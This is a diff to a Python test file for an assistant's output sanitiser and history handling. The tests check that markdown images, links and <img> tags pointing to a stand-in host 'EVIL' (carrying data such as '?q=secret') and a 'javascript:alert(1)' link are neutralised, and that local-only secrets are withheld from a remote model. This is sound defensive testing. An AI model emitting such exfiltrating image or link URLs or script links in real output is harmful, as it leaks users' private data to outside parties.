@@ -349,14 +349,14 @@ def test_user_patterns_thresholds_and_secrets() -> None:
 @pytest.mark.parametrize(
     ("text", "expected"),
     [
-        (f"see ![chart]({EVIL}?q=secret)", "see [image removed: chart]"),
-        (f"[click]({EVIL}?q=1) now", "click [link removed] now"),
+        (f"see ![chart]({EVIL}?q=secret)", "see (image removed: chart)"),
+        (f"[click]({EVIL}?q=1) now", "click (link removed) now"),
         ("[gov](https://www.gov.uk/tax) ok", "[gov](https://www.gov.uk/tax) ok"),
-        (f'<img src="{EVIL}">', "[image removed]"),
-        ("[x](javascript:alert(1))", "x [link removed]"),
-        (f"[ref]\n\n[ref]: {EVIL}", "[ref]\n\n[ref]: [link removed]"),
+        (f'<img src="{EVIL}">', "(image removed)"),
+        ("[x](javascript:alert(1))", "x (link removed)"),
+        (f"[ref]\n\n[ref]: {EVIL}", "[ref]\n\n[ref]: (link removed)"),
         ("plain text, no links", "plain text, no links"),
-        ("at http://127.0.0.1:8080] now", "at [link removed] now"),  # urlparse ValueError
+        ("at http://127.0.0.1:8080] now", "at (link removed)] now"),
     ],
 )
 def test_neutralize_links(text: str, expected: str) -> None:
@@ -420,5 +420,6 @@ async def test_allow_keeps_a_local_only_value_out_of_later_turns_history(
     assert CANARY in first["answer"].text  # restored on this machine
     await graph.ainvoke({"query": "And how long does a landlord have to return a deposit?"}, cfg)
     second = fake_openai.completions()[-1]["messages"][-1]["content"]
-    assert "<history>" in second and "recovery token" in second
+    # The earlier turn drew on the local_only vault: a remote model sees neither side of it.
+    assert "<history>" in second and "withheld" in second and "recovery token" not in second
     assert CANARY not in _bodies(fake_openai)
